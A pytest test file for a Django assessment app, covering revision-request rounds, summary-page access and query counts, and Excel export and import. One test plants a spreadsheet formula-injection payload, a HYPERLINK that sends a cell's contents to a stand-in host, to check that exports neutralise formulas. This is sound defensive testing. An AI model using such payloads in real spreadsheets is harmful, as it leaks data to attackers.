"""Review rounds across two revision requests: numbers and dates, the items returned, answered and
still open, the labels of the item threads, the round summary page (404 for whoever may not see the
assessment, a query count that does not grow) and the round columns of the LKE workbook."""

from __future__ import annotations

import datetime as dt
import importlib
import io
import zipfile
from unittest import mock
from zoneinfo import ZoneInfo

import pytest
from django.apps import apps as django_apps
from django.db import IntegrityError, transaction
from django.urls import reverse

from assessments import services
from assessments.excel_data import lke_export_data
from assessments.lke import workflow
from assessments.models import Answer, Assessment, InstrumentItem, RevisionRequest
from assessments.reports import xlsx as layout
from assessments.reports.xlsx import build_lke_workbook, round_column_letters
from assessments.reports.xlsx_read import read_lke
from assessments.round_data import assessment_rounds
from assessments.services import lke_import
from tests.excel.helpers import cell, load, rows_by_code, save

pytestmark = pytest.mark.django_db

WIB = ZoneInfo("Asia/Jakarta")
NOTE_1A = "SK tim belum ditandatangani pimpinan."
NOTE_1B = "Lampirkan rencana kerja tim."
NOTE_1C = "LAKIN 2025 belum dilampirkan."
NOTE_2A = "SK yang dilampirkan masih draf; unggah yang sudah bernomor."


class Clock:
    """``django.utils.timezone.now`` at a chosen moment (what auto_now_add and the services read)."""

    def __init__(self):
        self.now = dt.datetime(2026, 1, 5, 9, tzinfo=WIB)

    def at(self, day: int, month: int = 1, hour: int = 10) -> None:
        self.now = dt.datetime(2026, month, day, hour, tzinfo=WIB)


@pytest.fixture
def clock():
    c = Clock()
    with mock.patch("django.utils.timezone.now", lambda: c.now):
        yield c


def item(w, code):
    return InstrumentItem.objects.get(instrument=w.instrument, code=code)


def save_answer(w, actor, code, raw, note=""):
    current = Answer.objects.filter(assessment=w.assessment, item__code=code).first()
    side = "tpi" if actor == w.tpi_a else "unit"
    if note == "" and current is not None:
        note = getattr(current, f"{side}_note")
    return services.answer_save(actor=actor, assessment=w.assessment, item=item(w, code), raw_answer=raw, note=note,
                                expected_version=None)


def move(w, actor, action):
    services.assessment_transition(actor=actor, assessment=w.assessment, action=action)


def comment(w, actor, code, body):
    services.comment_add(actor=actor, assessment=w.assessment, item=item(w, code), body=body)


def request_revision(w, notes: dict[str, str]):
    return services.revision_request(actor=w.tpi_a, assessment=w.assessment,
                                     items=[(item(w, code), note) for code, note in notes.items()])


@pytest.fixture
def two_rounds(lke, clock):
    """UNIT-A's LKE through two revision requests: round 1 (21–24 January, closed), round 2 (from
    2 February, open)."""
    w = lke
    clock.at(10)
    for code, raw in (("P.1.i.a", "Tidak"), ("P.1.i.b", "B"), ("P.1.ii.a", "Tidak"), ("B.I.b", "B")):
        save_answer(w, w.team_a, code, raw)
    move(w, w.leader_a, "submit")
    clock.at(12)
    move(w, w.tpi_a, "start_review")
    save_answer(w, w.tpi_a, "P.1.i.a", "Tidak")
    comment(w, w.tpi_a, "P.1.i.a", "SK tim mana?")  # before round 1
    clock.at(21, hour=9)
    request_revision(w, {"P.1.i.a": NOTE_1A, "P.1.i.b": NOTE_1B, "B.I.b": NOTE_1C})
    clock.at(22)
    save_answer(w, w.team_a, "B.I.b", "A")
    clock.at(23)
    comment(w, w.team_a, "P.1.i.b", "Rencana kerja diunggah hari ini.")
    clock.at(24, hour=16)
    move(w, w.leader_a, "resubmit")
    clock.at(26)
    move(w, w.tpi_a, "start_review")
    comment(w, w.tpi_a, "B.I.b", "Terima kasih, LAKIN sudah ada.")
    clock.at(2, month=2)
    request_revision(w, {"P.1.i.a": NOTE_2A})
    clock.at(3, month=2)
    save_answer(w, w.team_a, "P.1.i.a", "Ya", note="SK 800/12/2026 bernomor")
    save_answer(w, w.team_a, "P.1.ii.a", "Ya")  # not returned: no answer to the round
    w.assessment.refresh_from_db()
    return w


def test_requests_are_numbered_per_assessment_and_rounds_have_dates(two_rounds):
    w = two_rounds
    requests = list(RevisionRequest.objects.filter(assessment=w.assessment).order_by("created_at"))
    assert [r.number for r in requests] == [1, 2]
    assert w.assessment.state == workflow.REVISION_REQUESTED
    rounds = assessment_rounds(w.assessment)
    assert [(r.number, r.label, r.is_open) for r in rounds.rounds] == [
        (1, "Putaran 1 · 21–24 Januari 2026", False),
        (2, "Putaran 2 · sejak 2 Februari 2026", True),
    ]
    assert rounds.current is not None and rounds.current.number == 2


def test_returned_answered_and_still_open_exactly(two_rounds):
    rounds = assessment_rounds(two_rounds.assessment)
    one, two = rounds.statuses[1], rounds.statuses[2]
    assert one.returned == ("P.1.i.a", "P.1.i.b", "B.I.b")
    assert one.answered == ("P.1.i.b", "B.I.b")
    assert one.still_open == ("P.1.i.a",)
    assert (two.returned, two.answered, two.still_open) == (("P.1.i.a",), ("P.1.i.a",), ())
    assert rounds.notes[("P.1.i.a", 1)] == NOTE_1A and rounds.notes[("P.1.i.a", 2)] == NOTE_2A
    assert rounds.responses[("B.I.b", 1)] == ("Jawaban diubah: B → A",)
    assert rounds.responses[("P.1.i.b", 1)] == ("Komentar: Rencana kerja diunggah hari ini.",)
    assert rounds.responses[("P.1.i.a", 2)] == ("Jawaban diubah: Tidak → Ya", "Catatan diubah: SK 800/12/2026 bernomor")
    assert ("P.1.i.a", 1) not in rounds.responses
    assert rounds.responses[("P.1.ii.a", 2)] == ("Jawaban diubah: Tidak → Ya",)  # a change, but not an answer


def test_numbers_are_per_assessment_and_unique(two_rounds):
    w = two_rounds
    Assessment.objects.filter(pk=w.assessment_b.pk).update(state=workflow.IN_REVIEW)
    other = services.revision_request(actor=w.tpi_lead, assessment=w.assessment_b,
                                      items=[(item(w, "P.1.i.a"), "Catatan unit B")])
    assert other.number == 1
    with pytest.raises(IntegrityError), transaction.atomic():
        RevisionRequest.objects.create(assessment=w.assessment, number=2, requested_by=w.tpi_a)


def test_worksheet_thread_labels_every_line_with_its_round(two_rounds, login):
    w = two_rounds
    page = login(w.team_a).get(reverse("assessments:assessment_worksheet", args=[w.assessment.pk]),
                               {"area": "P.1"}).content.decode()
    start = page.index('id="item-P-1-i-a"')
    p1ia = page[start:page.index("</article>", start)]
    # the unit sees the current round's note first, with its round
    assert "Catatan perbaikan TPI <span class=\"fw-semibold\">(Putaran 2 · sejak 2 Februari 2026)</span>: " \
           + NOTE_2A in p1ia
    thread = p1ia[p1ia.index('class="list-unstyled small mt-2 mb-2 lke-thread"'):]
    lines = [chunk.split("</li>")[0] for chunk in thread.split('<li class="mb-1 lke-thread-')[1:]]
    assert [(line.split('"')[0], line.split('data-round="')[1].split('"')[0]) for line in lines] == [
        ("comment", "0"), ("note", "1"), ("note", "2"), ("change", "2"), ("change", "2"),
    ]
    assert "Penilaian awal" in lines[0] and "SK tim mana?" in lines[0]
    assert "Putaran 1 · 21–24 Januari 2026" in lines[1] and NOTE_1A in lines[1]
    assert "Putaran 2 · sejak 2 Februari 2026" in lines[2] and NOTE_2A in lines[2]
    assert "Jawaban diubah: Tidak → Ya" in lines[3] and "Catatan diubah: SK 800/12/2026 bernomor" in lines[4]
    # B.I.b: the TPI's comment after the resubmission still belongs to round 1
    start = page.index('id="item-P-1-i-b"')
    p1ib = page[start:page.index("</article>", start)]
    assert "Putaran 1 · 21–24 Januari 2026" in p1ib and "Rencana kerja diunggah hari ini." in p1ib
    assert "Catatan perbaikan TPI <span" not in p1ib  # returned in round 1 only: no current note


def test_the_tpi_sees_the_rounds_in_the_thread_but_no_current_note_while_reviewing(two_rounds, login, clock):
    w = two_rounds
    clock.at(5, month=2)
    move(w, w.leader_a, "resubmit")
    move(w, w.tpi_a, "start_review")
    page = login(w.tpi_a).get(reverse("assessments:assessment_worksheet", args=[w.assessment.pk]),
                              {"area": "P.1"}).content.decode()
    assert "Putaran 2 · 2–5 Februari 2026" in page
    assert "lke-revision-note" not in page


def test_round_summary_page(two_rounds, login):
    w = two_rounds
    url = reverse("assessments:assessment_rounds", args=[w.assessment.pk])
    page = login(w.team_a).get(url).content.decode()
    assert page.count('<section class="card mb-3" id="round-') == 2
    one = page[page.index('id="round-1"'):page.index('id="round-2"')]
    assert "Putaran 1 · 21–24 Januari 2026" in one
    assert [s.split('"')[0] for s in one.split('data-code="')[1:]] == ["P.1.i.a", "P.1.i.b", "B.I.b"]
    assert 'data-code="P.1.i.a" data-status="still_open"' in one
    assert 'data-code="P.1.i.b" data-status="answered"' in one and 'data-code="B.I.b" data-status="answered"' in one
    assert 'data-count="returned">Butir dikembalikan: <strong>3</strong>' in one
    assert 'data-count="answered">Ditanggapi: <strong>2</strong>' in one
    assert 'data-count="still_open">Masih terbuka: <strong>1</strong>' in one
    assert "Jawaban diubah: B → A" in one and NOTE_1C in one
    assert reverse("assessments:assessment_worksheet", args=[w.assessment.pk]) + "?area=P.1#item-P-1-i-a" in one
    # one round only
    page = login(w.team_a).get(url, {"putaran": "2"}).content.decode()
    assert 'id="round-2"' in page and 'id="round-1"' not in page and "sejak 2 Februari 2026" in page
    assert login(w.team_a).get(url, {"putaran": "3"}).status_code == 404
    assert login(w.team_a).get(url, {"putaran": "dua"}).status_code == 400
    # linked from the assessment page
    detail = login(w.team_a).get(reverse("assessments:assessment_detail", args=[w.assessment.pk])).content.decode()
    assert f'href="{url}" id="rounds-link"' in detail
    assert "Permintaan perbaikan · putaran 2</strong>" in detail and NOTE_2A in detail


def test_round_summary_without_rounds(lke, login):
    page = login(lke.team_a).get(reverse("assessments:assessment_rounds", args=[lke.assessment.pk])).content.decode()
    assert 'id="rounds-empty"' in page


def test_round_summary_is_404_for_whoever_may_not_see_the_assessment(two_rounds, login, client):
    w = two_rounds
    url = reverse("assessments:assessment_rounds", args=[w.assessment.pk])
    for user in (w.team_b, w.tpi_unassigned, w.tpi_lead):
        assert login(user).get(url).status_code == 404
    assert login(w.team_b).get(url, {"putaran": "1"}).status_code == 404
    assert login(w.leadership).get(url).status_code == 200
    assert login(w.tpi_a).get(url).status_code == 200
    client.logout()
    assert client.get(url).status_code == 302
    missing = reverse("assessments:assessment_rounds", args=[w.assessment.pk + 1000])
    assert login(w.admin).get(missing).status_code == 404


def _rounds_of_size(w, clock, size: str) -> list[str]:
    """1 round returning 1 item ("small") or 3 rounds returning 25 items, each answered by a
    comment and an answer change; returns the returned codes."""
    codes = ["P.1.i.a"] if size == "small" else [i.code for i in InstrumentItem.objects.filter(
        instrument=w.instrument, scale__kind="option").order_by("position")[:25]]
    clock.at(10)
    move(w, w.leader_a, "submit")
    move(w, w.tpi_a, "start_review")
    for n in range(1 if size == "small" else 3):
        clock.at(11 + 3 * n)
        request_revision(w, {code: f"Catatan {code} putaran {n + 1}" for code in codes})
        clock.at(12 + 3 * n)
        for code in codes:
            comment(w, w.team_a, code, f"Tanggapan {code}")
            save_answer(w, w.team_a, code, "Ya" if code == "P.1.i.a" else
                        item(w, code).scale.options.order_by("position").first().code)
        move(w, w.leader_a, "resubmit")
        move(w, w.tpi_a, "start_review")
    return codes


@pytest.mark.parametrize("size", ["small", "large"])
def test_round_summary_query_count_does_not_grow(lke, login, clock, django_assert_max_num_queries, size):
    w = lke
    codes = _rounds_of_size(w, clock, size)
    client = login(w.team_a)
    with django_assert_max_num_queries(10):  # the same bound for 1 round of 1 item and 3 rounds of 25
        response = client.get(reverse("assessments:assessment_rounds", args=[w.assessment.pk]))
    assert response.status_code == 200
    assert response.content.decode().count('data-status="answered"') == len(codes) * (1 if size == "small" else 3)


@pytest.mark.parametrize("size", ["small", "large"])
def test_worksheet_query_count_does_not_grow_with_rounds(lke, login, clock, django_assert_max_num_queries, size):
    w = lke
    codes = _rounds_of_size(w, clock, size)
    client = login(w.tpi_a)
    with django_assert_max_num_queries(26):  # the worksheet's bound (25) and the changes of the rounds
        response = client.get(reverse("assessments:assessment_worksheet", args=[w.assessment.pk]))
    assert response.status_code == 200
    rounds = 1 if size == "small" else 3
    assert response.content.decode().count('class="mb-1 lke-thread-note"') == len(codes) * rounds


def test_excel_export_has_the_round_columns_with_cell_values(two_rounds, login):
    w = two_rounds
    content = login(w.team_a).get(reverse("assessments:assessment_lke_xlsx", args=[w.assessment.pk])).content
    ws = load(content)[layout.SHEET_LKE]
    (n1, r1), (n2, r2) = round_column_letters(0), round_column_letters(1)
    assert n1 == "P"  # right after the evidence column (O): the existing columns stay where they were
    header = layout.HEADER_ROW
    assert [ws[f"{c}{header}"].value for c in (n1, r1, n2, r2)] == [
        "Catatan TPI putaran 1 (21–24 Januari 2026)", "Tanggapan unit putaran 1",
        "Catatan TPI putaran 2 (sejak 2 Februari 2026)", "Tanggapan unit putaran 2",
    ]
    rows = rows_by_code(ws)
    assert [ws[f"{c}{rows['P.1.i.a']}"].value for c in (n1, r1, n2, r2)] == [
        NOTE_1A, None, NOTE_2A, "Jawaban diubah: Tidak → Ya\nCatatan diubah: SK 800/12/2026 bernomor"]
    assert [ws[f"{c}{rows['B.I.b']}"].value for c in (n1, r1, n2, r2)] == [
        NOTE_1C, "Jawaban diubah: B → A", None, None]
    assert [ws[f"{c}{rows['P.1.i.b']}"].value for c in (n1, r1)] == [
        NOTE_1B, "Komentar: Rencana kerja diunggah hari ini."]
    assert ws[f"{r2}{rows['P.1.ii.a']}"].value == "Jawaban diubah: Tidak → Ya"
    assert ws.auto_filter.ref.split(":")[1].startswith(r2)
    # the existing columns are unchanged
    assert [ws.cell(row=header, column=i).value for i in range(1, len(layout.COLUMNS) + 1)] == [
        h for _k, h, _w in layout.COLUMNS]


def test_import_ignores_the_round_columns_round_trip(two_rounds):
    w = two_rounds
    content = build_lke_workbook(lke_export_data(w.assessment))
    plan = lke_import.lke_import_plan(assessment=w.assessment, workbook=read_lke(content), side="unit")
    assert plan.changes == [] and plan.errors == []
    # a reader types into the round columns and changes one answer: only the answer is a change
    wb = load(content)
    ws = wb[layout.SHEET_LKE]
    note_col, response_col = round_column_letters(1)
    row = rows_by_code(ws)["P.1.i.b"]
    ws[f"{response_col}{row}"] = "Sudah kami perbaiki"
    ws[f"{note_col}{row}"] = "=1+1"
    cell(ws, "P.1.i.b", "unit_answer").value = "A"
    plan = lke_import.lke_import_plan(assessment=w.assessment, workbook=read_lke(save(wb)), side="unit")
    assert [(c.code, c.field, c.old, c.new) for c in plan.changes] == [("P.1.i.b", "answer", "B", "A")]
    assert plan.errors == []


def test_round_columns_never_hold_a_formula(lke, clock):
    w = lke
    clock.at(10)
    move(w, w.leader_a, "submit")
    move(w, w.tpi_a, "start_review")
    clock.at(21)
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    request_revision(w, {"P.1.i.a": hostile, "P.1.i.b": "@SUM(1,2)"})
    clock.at(22)
    comment(w, w.team_a, "P.1.i.a", "+SUM(1,2)")
    content = build_lke_workbook(lke_export_data(w.assessment))
    ws = load(content)[layout.SHEET_LKE]
    note_col, response_col = round_column_letters(0)
    rows = rows_by_code(ws)
    for code, text in (("P.1.i.a", hostile), ("P.1.i.b", "@SUM(1,2)")):
        c = ws[f"{note_col}{rows[code]}"]
        assert (c.value, c.data_type) == (text, "s")
        assert c.quotePrefix
    assert ws[f"{response_col}{rows['P.1.i.a']}"].value == "Komentar: +SUM(1,2)"
    sheet = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>HYPERLINK" not in sheet and "<f>SUM(1,2)" not in sheet and "<f>@SUM" not in sheet


def test_the_data_migration_numbers_existing_requests_by_creation_time(two_rounds, lke):
    migration = importlib.import_module("assessments.migrations.0010_revision_request_round_number")
    first, second = RevisionRequest.objects.filter(assessment=lke.assessment).order_by("created_at")
    # numbers as an older database would not have them: out of order and with a gap
    RevisionRequest.objects.filter(pk=first.pk).update(number=9)
    RevisionRequest.objects.filter(pk=second.pk).update(number=4)
    Assessment.objects.filter(pk=lke.assessment_b.pk).update(state=workflow.IN_REVIEW)
    other = RevisionRequest.objects.create(assessment=lke.assessment_b, number=5, requested_by=lke.tpi_lead)
    migration.number_requests(django_apps, None)
    assert list(RevisionRequest.objects.filter(assessment=lke.assessment).order_by("created_at")
                .values_list("number", flat=True)) == [1, 2]
    other.refresh_from_db()
    assert other.number == 1
